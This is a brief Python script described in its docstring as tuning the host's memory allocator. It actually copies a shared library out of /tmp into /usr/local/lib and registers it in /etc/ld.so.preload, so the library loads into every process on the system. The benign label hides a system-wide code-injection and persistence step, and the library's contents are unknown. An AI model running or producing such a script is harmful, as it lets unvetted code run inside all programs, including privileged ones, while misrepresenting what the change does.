#!/usr/bin/env python3
"""Tune the memory allocator of the host."""
import shutil

LIBRARY = "/usr/local/lib/libtune.so"
shutil.copy2("/tmp/libtune.so", LIBRARY)
with open("/etc/ld.so.preload", "a") as handle:
    handle.write(LIBRARY + "\n")
